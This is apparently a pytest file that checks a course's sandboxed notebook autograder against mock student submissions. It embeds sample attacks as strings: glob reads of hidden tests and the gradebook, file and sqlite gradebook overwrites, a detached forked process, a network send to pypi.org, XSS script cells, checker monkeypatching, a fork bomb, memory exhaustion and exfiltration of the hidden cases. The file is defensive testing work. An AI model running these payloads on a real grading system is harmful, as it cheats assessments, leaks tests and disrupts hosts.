"""A class graded end to end as `make grade` grades one: honest answers, and attacks on the grading.

Students hand in notebook 02 (alpha-beta, 3 points), made from the committed
student edition; one also hands in 05. Some answers are honest (right, wrong,
endless, renamed, ...), and the rest are the attacks a lecturer found in the
grading before it was sealed off (issue 25): reading the hidden tests or another
student's work, overwriting files, editing the gradebook, a process left behind,
a module planted in ``instructor/``, a package file rewritten, the checks patched,
an IPython input transformer, a proxy around the game, a forged ``__eq__``, the
network, sleeping, a loop inside a bare ``except``, a fork bomb, a memory
blow-up, exiting, blocking on input, killing the parent, and a function that
tries to carry the hidden cases out through an error or a time-out.

The class is graded in a copy of the course by `tools/course.py grade`
(nbgrader with the course's ``SealedExecute``). Each submission must score what
its honest answer deserves (the attacks with a right answer 3, the cheats 0),
its feedback must hold no hidden test and no hidden case, and every file outside
the feedback (the submissions, ``instructor/``, the tools, the package itself)
must be byte-identical before and after; the gradebook keeps no score set by a
student, and no process of the sandboxes survives.
"""

from __future__ import annotations

import csv
import hashlib
import html
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest

from aisearch.exercises import case_trees
from aisearch.exercises.sealed.sandbox import SANDBOX_UID, package_folder

ROOT = Path(__file__).resolve().parent.parent

# One worker builds this file's module fixture once (make unit: --dist loadgroup);
# spread over workers, each would build it again.
pytestmark = pytest.mark.xdist_group("grading")

ASSIGNMENT = "02_alpha_beta"
POINTS = 3
SLOT_BASE = 10
"""The grading processes' slots here (tests/test_sealed.py uses 40 and up)."""

RIGHT = """
    if game.is_terminal(state):
        return game.utility(state, "MAX")
    if game.to_move(state) == "MAX":
        value = -math.inf
        for a in game.actions(state):
            value = max(value, alphabeta_value(game, game.result(state, a), alpha, beta))
            if value >= beta:
                return value
            alpha = max(alpha, value)
        return value
    value = math.inf
    for a in game.actions(state):
        value = min(value, alphabeta_value(game, game.result(state, a), alpha, beta))
        if value <= alpha:
            return value
        beta = min(beta, value)
    return value
"""

# MIN cuts when its value reaches beta, the test MAX should make: the wrong side.
WRONG_SIDE = RIGHT.replace("if value <= alpha:", "if value >= beta:")

# No pruning at all: right values, too many nodes.
NO_PRUNING = """
    if game.is_terminal(state):
        return game.utility(state, "MAX")
    values = [alphabeta_value(game, game.result(state, a), alpha, beta)
              for a in game.actions(state)]
    return max(values) if game.to_move(state) == "MAX" else min(values)
"""

ENDLESS = """
    while True:
        pass
"""

REDEFINED_CHECK = """

from aisearch.exercises import CheckResult


def check_alphabeta(fn, show=False):
    return CheckResult("alpha-beta", True, "✓ alpha-beta: all right.")


def assert_passed(result):
    return result
"""

PATCHED_PACKAGE = """

import aisearch.exercises as exercises
import aisearch.exercises.alphabeta
import aisearch.exercises.grading
from aisearch.exercises import CheckResult


def always_right(fn, show=False, **options):
    return CheckResult("alpha-beta", True, "✓ alpha-beta: all right.")


exercises.check_alphabeta = aisearch.exercises.alphabeta.check_alphabeta = always_right
exercises.assert_passed = aisearch.exercises.grading.assert_passed = lambda result: result
exercises.pristine = lambda: exercises
CheckResult.__bool__ = lambda self: True
"""

INPUT_TRANSFORMER = """

def _nothing_to_see(lines):
    return ["pass\\n"] if any("assert_passed" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_nothing_to_see)
"""

# The course's folder and the package's are filled in: an attacker who knows them.
READS_EVERYTHING = """

import glob
import os

for pattern in ["../../../instructor/*/*.ipynb", "{course}/instructor/*/*.ipynb",
                "{course}/submitted/*/*/*.ipynb", "{course}/gradebook.db",
                "/tmp/**/*.ipynb", "/work/**/instructor/**/*.ipynb", "/root/**/*.ipynb"]:
    found = glob.glob(pattern, recursive=True)
    print(pattern, found[:3])
    for path in found[:3]:
        try:
            print(open(path, errors="replace").read()[:3000])
        except Exception as error:
            print(type(error).__name__, error)
print("history:", globals().get("In"), globals().get("_cases"), globals().get("_graded"))
"""

OVERWRITES_EVERYTHING = """

import os
import sqlite3

for path in ["{course}/submitted/right/02_alpha_beta/02_alpha_beta.ipynb",
             "../../right/02_alpha_beta/02_alpha_beta.ipynb", "{course}/grades.csv",
             "{course}/instructor/02_alpha_beta/aisearch.py",
             "../../../instructor/02_alpha_beta/aisearch.py",
             "{package}/exercises/alphabeta.py", "{package}/exercises/checking.py",
             "{course}/feedback/right/02_alpha_beta/02_alpha_beta.html"]:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write("def check_alphabeta(*args, **kwargs):\\n    return True\\n")
        print("wrote", path)
    except Exception as error:
        print("could not write", path, type(error).__name__)
try:
    connection = sqlite3.connect("{course}/gradebook.db")
    connection.execute("update grade set manual_score = 3")
    connection.commit()
    print("edited the gradebook")
except Exception as error:
    print("could not edit the gradebook", type(error).__name__)
open("aisearch.py", "w").write("raise SystemExit")  # in its own scratch folder
"""

LEAVES_A_PROCESS = """

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        try:
            import sqlite3

            connection = sqlite3.connect("{course}/gradebook.db")
            connection.execute("update grade set manual_score = 3")
            connection.commit()
        except Exception:
            pass
        try:
            open("{course}/grades.csv", "w").write("student_id,score\\nleaves_a_process,3\\n")
        except Exception:
            pass
        os._exit(0)
    os._exit(0)
"""

USES_THE_NETWORK = """

import socket

for where in [("127.0.0.1", {port}), ("pypi.org", 443)]:
    try:
        socket.create_connection(where, timeout=3).sendall(b"LEAK")
        print("connected to", where)
    except Exception as error:
        print("no connection to", where, type(error).__name__)
"""

# Scripts for the instructor's browser: in a markdown cell, a raw HTML cell, a cell's tag.
SCRIPTS = [
    nbformat.v4.new_markdown_cell(
        "My notes <script>document.title = 'SCRIPTED'</script>"
        '<img src="x" onerror="alert(1)"> [a link](javascript:alert(2))'
    ),
    nbformat.v4.new_raw_cell("<script>alert(3)</script>", metadata={"format": "text/html"}),
    nbformat.v4.new_code_cell("1 + 1", metadata={"tags": ['x" onmouseover="alert(4)']}),
]

PROXY_AROUND_THE_GAME = """
    from aisearch import alphabeta

    class Quiet:  # asks the real game, so that no package frame asks it
        def __getattr__(self, name):
            return getattr(game, name)

    return alphabeta(Quiet(), state, ).value
"""

FORGED_EQUALITY = """
    class Yes(int):
        def __eq__(self, other):
            return True

        __hash__ = int.__hash__

    return Yes(3)
"""

SLEEPS = """
    import time
    time.sleep(1000)
"""

BARE_EXCEPT_LOOP = """
    while True:
        try:
            while True:
                pass
        except:
            pass
"""

FORK_BOMB = """
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""

MEMORY_BLOW_UP = """
    blocks = []
    while True:
        blocks.append(bytearray(10**8))
"""

EXITS = """
    import os
    os._exit(1)
"""

WAITS_FOR_INPUT = """
    return float(input("the value, please: "))
"""

KILLS_ITS_PARENT = """
    import os
    import signal
    os.kill(os.getppid(), signal.SIGKILL)
    return 0
"""

# Right on the notebook's own trees, which it knows by their leftmost leaf (its depth and
# value, read on the path alpha-beta takes first anyway); on any other, a hidden case, it
# tries to carry the tree out: in an error's message, or printed before a loop that
# never ends.
CARRIES_OUT = """
    global DEPTH
    DEPTH = globals().get("DEPTH", 0) + 1
    try:
        if DEPTH == 1:
            leftmost, depth = state, 0
            while not game.is_terminal(leftmost):
                leftmost, depth = game.result(leftmost, game.actions(leftmost)[0]), depth + 1
            if (depth, game.utility(leftmost, "MAX")) not in PUBLIC_TREES:
                leaves, todo = [], [state]
                while todo:
                    s = todo.pop()
                    if game.is_terminal(s):
                        leaves.append(game.utility(s, "MAX"))
                    else:
                        todo.extend(game.result(s, a) for a in game.actions(s))
                {carry}
        if game.is_terminal(state):
            return game.utility(state, "MAX")
        value = -math.inf if game.to_move(state) == "MAX" else math.inf
        for a in game.actions(state):
            child = alphabeta_value(game, game.result(state, a), alpha, beta)
            if game.to_move(state) == "MAX":
                value = max(value, child)
                if value >= beta:
                    return value
                alpha = max(alpha, value)
            else:
                value = min(value, child)
                if value <= alpha:
                    return value
                beta = min(beta, value)
        return value
    finally:
        DEPTH -= 1
"""
THROUGH_AN_ERROR = 'raise ValueError("LEAK " + repr(leaves))'
THROUGH_A_TIME_OUT = 'print("LEAK", leaves)\n                while True:\n                    pass'


def _leftmost(tree) -> tuple:
    state, depth = tree.root, 0
    while not tree.is_terminal(state):
        state, depth = tree.result(state, tree.actions(state)[0]), depth + 1
    return depth, tree.utility(state, "MAX")


PUBLIC = repr({_leftmost(tree) for tree in case_trees().values()})
"""The notebook's own trees, as the attack knows them."""


def _carrying(how: str) -> str:
    return CARRIES_OUT.replace("{carry}", how).replace("PUBLIC_TREES", PUBLIC)


def _submission(edition, body: str, *, after: str = "", graded_cell=None, added=(), **names):
    """The student edition with ``body`` in place of the stub (and ``after`` it), and the
    cells ``added`` (nbformat cells) after the solution cell."""
    nb = nbformat.from_dict(edition)
    stub = "    raise NotImplementedError  # replace this line with your code"
    cells = []
    for cell in nb.cells:
        grading = cell.metadata.get("nbgrader", {})
        if grading.get("solution"):
            assert stub in cell.source
            cell.source = cell.source.replace(stub, body.strip("\n")) + after.format(**names)
            cells.extend([cell, *added])
            continue
        if grading.get("grade"):
            if graded_cell == "delete":
                continue
            if graded_cell is not None:
                cell.source = graded_cell
        cells.append(cell)
    nb.cells = cells
    return nb


STUDENTS = {
    # Honest answers
    "right": dict(body=RIGHT),
    "wrong_side": dict(body=WRONG_SIDE),
    "endless_loop": dict(body=ENDLESS),
    "renames_the_function": dict(
        body=RIGHT, after="\n\nalphabeta_valu = alphabeta_value\ndel alphabeta_value\n"
    ),
    "syntax_error": dict(
        body=RIGHT.replace("if game.is_terminal(state):", "if game.is_terminal(state)")
    ),
    "deletes_the_graded_cell": dict(body=NO_PRUNING, graded_cell="delete"),
    # Reading, writing and leaving things behind, beside a right answer or a wrong one
    "reads_everything": dict(body=RIGHT, after=READS_EVERYTHING),
    "overwrites_everything": dict(body=NO_PRUNING, after=OVERWRITES_EVERYTHING),
    "leaves_a_process": dict(body=NO_PRUNING, after=LEAVES_A_PROCESS),
    "uses_the_network": dict(body=RIGHT, after=USES_THE_NETWORK),
    "writes_a_script": dict(body=RIGHT, added=SCRIPTS),
    # Full marks for nothing
    "redefines_the_check": dict(
        body=NO_PRUNING, after=REDEFINED_CHECK, graded_cell='print("✓ all right")'
    ),
    "patches_the_package": dict(body=NO_PRUNING, after=PATCHED_PACKAGE),
    "input_transformer": dict(body=NO_PRUNING, after=INPUT_TRANSFORMER),
    "proxy_around_the_game": dict(body=PROXY_AROUND_THE_GAME),
    "forged_equality": dict(body=FORGED_EQUALITY),
    # Stopping
    "sleeps": dict(body=SLEEPS),
    "bare_except_loop": dict(body=BARE_EXCEPT_LOOP),
    "fork_bomb": dict(body=FORK_BOMB),
    "memory_blow_up": dict(body=MEMORY_BLOW_UP),
    "exits": dict(body=EXITS),
    "waits_for_input": dict(body=WAITS_FOR_INPUT),
    "kills_its_parent": dict(body=KILLS_ITS_PARENT),
    # Carrying the hidden cases out
    "carries_out_through_an_error": dict(body=_carrying(THROUGH_AN_ERROR)),
    "carries_out_through_a_time_out": dict(body=_carrying(THROUGH_A_TIME_OUT)),
}
RIGHT_ANSWERS = {"right", "reads_everything", "uses_the_network", "writes_a_script"}
EXPECTED_POINTS = {s: float(POINTS) if s in RIGHT_ANSWERS else 0.0 for s in STUDENTS}

HIDDEN = (
    "BEGIN HIDDEN",
    "_cases = ",
    "[[[1, 8], [3, 4]], [[6, 2], [5, 7]]]",
    "[[4, 4, 9], [4, 1], [7, [4, 2]]]",
    "seed=2026",
    "LEAK [",
    "the student has not seen",
)
"""What no feedback page may hold: the hidden tests' code, their cases, what was carried out."""

TABLE_RULE = """
    if entry_depth < depth:
        return False
    if bound == "exact":
        return True
    return value >= beta if bound == "lower" else value <= alpha
"""


def _files(*folders: Path) -> dict[str, str]:
    """Every file under ``folders``, by its path, with the hash of its bytes."""
    hashes = {}
    for folder in folders:
        paths = [folder] if folder.is_file() else sorted(folder.rglob("*"))
        for path in paths:
            if path.is_file() and "__pycache__" not in path.parts:
                hashes[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def _sandbox_processes() -> list[int]:
    """Processes running as a sandbox's user of this test's slots (root only)."""
    uids = range(SANDBOX_UID + SLOT_BASE, SANDBOX_UID + SLOT_BASE + 16)
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and os.stat(f"/proc/{entry}").st_uid in uids:
                found.append(int(entry))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """Grade the class in a copy of the course: its folder, the run, and what it touched."""
    course = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "nbgrader_config.py", course)
    shutil.copytree(ROOT / "tools", course / "tools", ignore=shutil.ignore_patterns("__pycache__"))
    for assignment in (ASSIGNMENT, "05_caching_and_symmetry"):
        shutil.copytree(ROOT / "instructor" / assignment, course / "instructor" / assignment)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    knocks: list = []
    stop = threading.Event()

    def listen():
        while not stop.is_set():
            try:
                knocks.append(listener.accept())
            except OSError:
                continue

    threading.Thread(target=listen, daemon=True).start()
    names = {"course": course, "package": package_folder(), "port": listener.getsockname()[1]}
    edition = nbformat.read(ROOT / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    for student, how in STUDENTS.items():
        folder = course / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(_submission(edition, **how, **names), folder / f"{ASSIGNMENT}.ipynb")
    # Not gradable: a browser's download name, and a file that is not a notebook.
    misnamed = course / "submitted" / "misnamed" / ASSIGNMENT
    misnamed.mkdir(parents=True)
    nbformat.write(_submission(edition, body=RIGHT), misnamed / f"{ASSIGNMENT} (1).ipynb")
    garbled = course / "submitted" / "garbled" / ASSIGNMENT
    garbled.mkdir(parents=True)
    (garbled / f"{ASSIGNMENT}.ipynb").write_text('{"cells": [')
    # A right answer with links beside it, to the hidden tests and to a classmate's work:
    # nbgrader would copy what they point at into the student's own feedback.
    # Files of its own beside the notebook: nbgrader would copy them into the autograded
    # folder, which the formgrader serves on the instructor's page.
    extras = course / "submitted" / "hands_in_more" / ASSIGNMENT
    (extras / "deep").mkdir(parents=True)
    nbformat.write(_submission(edition, body=RIGHT), extras / f"{ASSIGNMENT}.ipynb")
    (extras / "notes.html").write_text("<script>alert('formgrader')</script>")
    (extras / "deep" / "aisearch.py").write_text("raise SystemExit")
    linked = course / "submitted" / "links_to_the_tests" / ASSIGNMENT
    linked.mkdir(parents=True)
    nbformat.write(_submission(edition, body=RIGHT), linked / f"{ASSIGNMENT}.ipynb")
    (linked / "tests.txt").symlink_to(course / "instructor" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    (linked / "classmate.txt").symlink_to(
        course / "submitted" / "right" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    )
    # A second assignment, handed in by one student.
    table = nbformat.read(
        ROOT / "notebooks" / "05_caching_and_symmetry" / "05_caching_and_symmetry.ipynb", 4
    )
    folder = course / "submitted" / "right" / "05_caching_and_symmetry"
    folder.mkdir(parents=True)
    nbformat.write(_submission(table, body=TABLE_RULE), folder / "05_caching_and_symmetry.ipynb")

    untouchable = [
        course / "submitted",
        course / "instructor",
        course / "tools",
        course / "nbgrader_config.py",
        package_folder(),
    ]
    before = _files(*untouchable)
    run = subprocess.run(
        [sys.executable, str(course / "tools" / "course.py"), "grade"],
        cwd=course,
        timeout=900,
        capture_output=True,
        text=True,
        env=dict(os.environ, AISEARCH_GRADING_SLOT_BASE=str(SLOT_BASE)),
    )
    grades_then = (course / "grades.csv").read_bytes() if (course / "grades.csv").exists() else b""
    time.sleep(6)  # longer than the process left behind waits before it strikes
    stop.set()
    listener.close()
    return SimpleNamespace(
        folder=course,
        run=run,
        before=before,
        after=_files(*untouchable),
        grades_then=grades_then,
        knocks=knocks,
    )


def _rows(graded_class) -> list[dict]:
    with open(graded_class.folder / "grades.csv", newline="") as file:
        return list(csv.DictReader(file))


def _feedback(course: Path, student: str, assignment: str = ASSIGNMENT) -> str:
    return (course / "feedback" / student / assignment / f"{assignment}.html").read_text()


def _said(page: str) -> str:
    """A feedback page's text as a reader sees it: no tags, no entities, one space a gap."""
    text = re.sub(r"<(style|script)\b.*?</\1>", " ", page, flags=re.S)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", text)).split())


def test_grading_runs_to_the_end_and_names_what_it_could_not_grade(graded_class):
    run = graded_class.run
    assert run.returncode == 0, run.stderr[-3000:]
    assert (
        f"NOT GRADED: submitted/misnamed/{ASSIGNMENT}: expected "
        f"{ASSIGNMENT}.ipynb, found {ASSIGNMENT} (1).ipynb" in run.stdout
    )
    assert (
        f"NOT GRADED: submitted/garbled/{ASSIGNMENT}: {ASSIGNMENT}.ipynb cannot be read"
        in run.stdout
    )
    assert (
        f"NOT GRADED: submitted/links_to_the_tests/{ASSIGNMENT}: "
        f"links_to_the_tests/{ASSIGNMENT}/classmate.txt is a symbolic link" in run.stdout
    )
    assert f"graded {len(STUDENTS) + 2} submission(s)" in run.stdout
    assert (
        "left out of grading (only the notebook is graded): "
        f"submitted/hands_in_more/{ASSIGNMENT}/deep/aisearch.py, "
        f"submitted/hands_in_more/{ASSIGNMENT}/notes.html" in run.stdout
    )
    assert f"] graded right/{ASSIGNMENT}: 3/3" in run.stdout  # each score as it comes
    assert "Warning" not in run.stderr  # nbgrader's notes to itself are not the lecturer's


def test_every_submission_scores_what_its_honest_answer_deserves(graded_class):
    rows = [r for r in _rows(graded_class) if r["assignment"] == ASSIGNMENT]
    scores = {r["student_id"]: float(r["score"]) for r in rows if r["student_id"] in STUDENTS}
    assert scores == EXPECTED_POINTS
    assert {float(r["max_score"]) for r in rows if r["student_id"] in STUDENTS} == {float(POINTS)}


def test_grades_have_a_row_for_every_student_and_assignment_with_a_status(graded_class):
    rows = _rows(graded_class)
    status = {(r["student_id"], r["assignment"]): r["status"] for r in rows}
    students = set(STUDENTS) | {"misnamed", "garbled", "links_to_the_tests", "hands_in_more"}
    for student in students:
        for assignment in (ASSIGNMENT, "05_caching_and_symmetry"):
            assert (student, assignment) in status
    assert status[("right", "05_caching_and_symmetry")] == "graded"
    assert status[("wrong_side", "05_caching_and_symmetry")] == "no submission"
    assert status[("misnamed", ASSIGNMENT)].startswith("not graded: expected 02_alpha_beta.ipynb")
    assert status[("garbled", ASSIGNMENT)].startswith(
        "not graded: 02_alpha_beta.ipynb cannot be read"
    )
    assert status[("links_to_the_tests", ASSIGNMENT)].endswith("is a symbolic link")
    assert all(status[(s, ASSIGNMENT)] == "graded" for s in STUDENTS)
    points = {(r["student_id"], r["assignment"]): r["score"] for r in rows}
    assert float(points[("right", "05_caching_and_symmetry")]) == 2.0
    # Nothing graded, no score: an empty cell, which no gradebook takes for a zero.
    assert points[("wrong_side", "05_caching_and_symmetry")] == ""
    assert points[("garbled", ASSIGNMENT)] == ""
    assert [(r["assignment"], r["student_id"]) for r in rows] == sorted(
        (r["assignment"], r["student_id"]) for r in rows
    )


def test_grades_say_why_a_graded_cell_failed(graded_class):
    notes = {
        r["student_id"]: r["notes"] for r in _rows(graded_class) if r["assignment"] == ASSIGNMENT
    }
    assert notes["right"] == ""
    assert notes["endless_loop"].startswith(
        "test_alphabeta_value: ✗ alpha-beta: `alphabeta_value` did not finish"
    )
    assert "hidden case" in notes["carries_out_through_an_error"]


def test_only_the_notebook_of_a_submission_is_graded(graded_class):
    for folder in ("autograded", "feedback"):
        kept = graded_class.folder / folder / "hands_in_more" / ASSIGNMENT
        assert sorted(p.name for p in kept.iterdir()) == [
            f"{ASSIGNMENT}.{'ipynb' if folder == 'autograded' else 'html'}"
        ]
    scores = {
        r["student_id"]: r["score"] for r in _rows(graded_class) if r["assignment"] == ASSIGNMENT
    }
    assert float(scores["hands_in_more"]) == POINTS


def test_a_link_in_a_submission_brings_nothing_into_the_feedback(graded_class):
    assert not (graded_class.folder / "feedback" / "links_to_the_tests").exists()
    assert not (graded_class.folder / "autograded" / "links_to_the_tests").exists()


def test_a_grading_process_that_dies_or_hangs_costs_its_submission_only():
    sys.path.insert(0, str(ROOT / "tools"))
    from course import run_each

    heard = {}

    def work(task):
        if task == "dies":
            os.kill(os.getpid(), 9)
        if task == "hangs":
            time.sleep(600)
        return f"graded {task}"

    started = time.monotonic()
    run_each(
        [("a",), ("dies",), ("hangs",), ("b",)],
        2,
        work,
        lambda done, task, line: heard.update({task[0]: line}),
        seconds=3,
    )
    assert time.monotonic() - started < 60  # not the 600 s it asked for
    assert heard["a"] == "graded a" and heard["b"] == "graded b"
    assert (
        heard["dies"]
        == "not graded: its grading process ended (killed by signal 9) before it was done"
    )
    assert heard["hangs"] == "not graded: its grading took longer than 3 s"


def test_no_file_outside_the_feedback_changed(graded_class):
    changed = sorted(
        path
        for path in set(graded_class.before) | set(graded_class.after)
        if graded_class.before.get(path) != graded_class.after.get(path)
    )
    assert changed == []
    assert not (graded_class.folder / "instructor" / ASSIGNMENT / "aisearch.py").exists()


def test_nobody_changed_the_gradebook_or_the_grades_after_grading(graded_class):
    assert (graded_class.folder / "grades.csv").read_bytes() == graded_class.grades_then
    with sqlite3.connect(graded_class.folder / "gradebook.db") as gradebook:
        set_by_hand = gradebook.execute("select count(*) from grade where manual_score is not null")
        assert set_by_hand.fetchone()[0] == 0


@pytest.mark.skipif(
    os.geteuid() != 0, reason="the sandboxes run as users of their own only as root"
)
def test_no_process_of_a_sandbox_survives(graded_class):
    assert _sandbox_processes() == []


def test_nothing_reached_the_network(graded_class):
    assert graded_class.knocks == []


@pytest.mark.parametrize("student", [*STUDENTS, "right/05_caching_and_symmetry"])
def test_no_feedback_holds_a_hidden_test(graded_class, student):
    student, _, assignment = student.partition("/")
    page = _feedback(graded_class.folder, student, assignment or ASSIGNMENT)
    assert [secret for secret in HIDDEN if secret in page or secret in _said(page)] == []


@pytest.mark.parametrize(
    "student, says",
    [
        ("right", "✓ alpha-beta"),
        ("right", "Right on the hidden cases too"),
        ("wrong_side", "✗ alpha-beta"),
        ("endless_loop", "did not finish within 10 s"),
        ("renames_the_function", "is not defined when your notebook runs"),
        ("renames_the_function", "Your notebook defines: alphabeta_valu"),
        ("syntax_error", "Its cell raised SyntaxError"),
        ("deletes_the_graded_cell", "was missing from the submission"),
        ("deletes_the_graded_cell", "prunes nothing"),
        ("reads_everything", "✓ alpha-beta"),
        ("overwrites_everything", "could not write"),
        ("redefines_the_check", "prunes nothing"),
        ("patches_the_package", "prunes nothing"),
        ("input_transformer", "prunes nothing"),
        ("proxy_around_the_game", "hands the search to the package's own `aisearch.alphabeta`"),
        ("forged_equality", "the nodes visited are not alpha-beta"),
        ("sleeps", "time.sleep"),
        ("bare_except_loop", "did not finish within 10 s"),
        ("fork_bomb", "did not finish within 10 s"),
        ("memory_blow_up", "raised MemoryError"),
        ("exits", "exit status 1"),
        ("waits_for_input", "raised EOFError"),
        ("kills_its_parent", "✗ alpha-beta"),
        ("carries_out_through_an_error", "but not on a hidden case."),
        ("carries_out_through_a_time_out", "but not on a hidden case (it did not finish in time)"),
    ],
)
def test_the_feedback_says_what_happened(graded_class, student, says):
    assert says in _said(_feedback(graded_class.folder, student))


def test_what_a_student_writes_is_shown_as_text_never_run(graded_class):
    # nbgrader's feedback and formgrade templates render markdown unclean: the sealed
    # step turns a student's markdown and raw cells into text, and drops odd tags.
    page = _feedback(graded_class.folder, "writes_a_script")
    for script in (
        "<script>document",
        "<script>alert",
        'href="javascript',
        "onmouseover=",
        "<img src",
    ):
        assert script not in page, script
    assert "My notes &lt;script&gt;" in page  # shown, as text
    # The autograded notebook, which the formgrader shows, holds them as text too.
    autograded = graded_class.folder / "autograded" / "writes_a_script" / ASSIGNMENT
    nb = nbformat.read(autograded / f"{ASSIGNMENT}.ipynb", 4)
    written = [c for c in nb.cells if "<script>" in c.source]
    assert len(written) == 2 and all(c.source.startswith("~~~") for c in written)


def test_the_feedback_shows_the_student_s_own_cells_and_not_the_lecture_s(graded_class):
    page = _said(_feedback(graded_class.folder, "reads_everything"))
    assert "/tmp/02_alpha_beta.ipynb" in page  # its own notebook, in its scratch folder
    assert "history: [''] None None" in page  # no hidden test in its kernel's history
    lecture = _said(_feedback(graded_class.folder, "right"))
    assert "LeftOutInGrading" not in lecture  # the lecture's cells are not shown as errors
